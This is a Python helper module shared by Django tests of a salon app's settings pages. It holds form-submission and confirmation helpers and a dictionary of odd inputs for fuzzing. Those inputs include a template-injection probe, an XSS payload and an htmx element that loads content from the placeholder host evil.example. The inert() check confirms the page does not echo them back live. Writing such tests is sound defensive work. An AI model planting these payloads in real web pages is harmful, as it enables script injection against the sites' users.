"""What the tests of several settings pages share."""

import re
from datetime import date, time
from typing import Any

from django.forms import CheckboxSelectMultiple
from django.test import Client as Browser

ODD = {
    "NUL": "a\x00b",
    "turned": "abc\u202edef",
    "marks": "e" + "\u0301" * 1000,
    "a lot": "x" * 100_000,
    "template": "{{7*7}}{% debug %}",
    "html": "<svg onload=alert(1)><div hx-get=//evil.example hx-trigger=load>",
    "digits": "9" * 5000,
    "other digits": "٢٠٢٦-١١-٢٨",
    "far": "9999-12-31",
    "no such day": "2026-02-30",
}
UNDO = re.compile(r'name="undo" value="([^"]+)"')


def given(browser: Browser, page: str, name: str = "form", /, **changed: Any) -> dict[str, Any]:
    """What the form of the page would send, with something else typed."""
    form = browser.get(page).context[name]
    values = {field: form[field].value() for field in form.fields}
    return {
        field: form.fields[field].widget.format_value(value) if isinstance(value, date | time) else value or ""
        for field, value in values.items()
        if value is not False and (value or not isinstance(form.fields[field].widget, CheckboxSelectMultiple))
    } | changed


def confirmed(browser: Browser, page: str, typed: dict[str, Any], **more: Any) -> Any:
    """Send it, and once more when it is shown first what it would touch."""
    answer = browser.post(page, typed, **more)
    told = foretold(answer)
    return browser.post(page, typed | {"known": told.mark}, **more) if told else answer


def foretold(answer: Any) -> Any:
    """What is shown before anything is kept; None when it was kept, or refused."""
    if not answer.context or answer.status_code != 200:
        return None
    return answer.context.get("foretold") or getattr(answer.context.get("form"), "foretold", None)


def free_days(browser: Browser, service: str, from_on: str = "2026-11-24", until_on: str = "2026-12-20") -> list[str]:
    """The days with free times, as programs and the public page are told."""
    answer = browser.get(f"/api/v1/salon/slots?service={service}&from={from_on}&to={until_on}")
    assert answer.status_code == 200, answer.content
    return sorted({slot["start"][:10] for slot in answer.json()["results"]})


def inert(answer: Any) -> bool:
    """Nothing broke, and nothing that was typed is alive."""
    alive = b"<svg onload" in answer.content or b"<div hx-get=//evil" in answer.content
    return answer.status_code < 500 and not alive
